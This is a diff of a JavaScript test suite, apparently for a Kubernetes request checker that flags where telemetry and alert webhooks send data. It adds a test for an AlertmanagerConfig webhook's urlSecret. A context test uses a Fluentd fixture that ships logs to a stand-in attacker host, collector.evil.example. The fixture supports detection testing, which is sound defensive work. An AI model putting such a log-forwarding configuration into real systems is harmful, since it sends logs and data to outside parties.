@@ -67,6 +67,11 @@ describe('telemetry configurations not in YAML, and Instrumentation (uploads50)'
     expect(asked(path, obj)).toEqual([]);
   });
 
+  it("asks for an AlertmanagerConfig webhook's urlSecret (decided: the Secret is never in the same request)", () => {
+    const amc = { apiVersion: 'monitoring.coreos.com/v1alpha1', kind: 'AlertmanagerConfig', metadata: { name: 'a', namespace: 'monitoring' }, spec: { receivers: [{ name: 'w', webhookConfigs: [{ urlSecret: { name: 'hook', key: 'url' } }] }] } };
+    expect(asked('/apis/monitoring.coreos.com/v1alpha1/namespaces/monitoring/alertmanagerconfigs', amc).map((v) => v.path)).toEqual(['spec.receivers[0].webhookConfigs[0].urlSecret']);
+  });
+
   it('names where the destination sits and not the address', () => {
     const [v] = asked(CM, configMap('fluent.conf', FLUENTD('  @type http\n  endpoint https://collector.evil.example/logs')));
     expect(v?.path).toContain('data.fluent.conf');
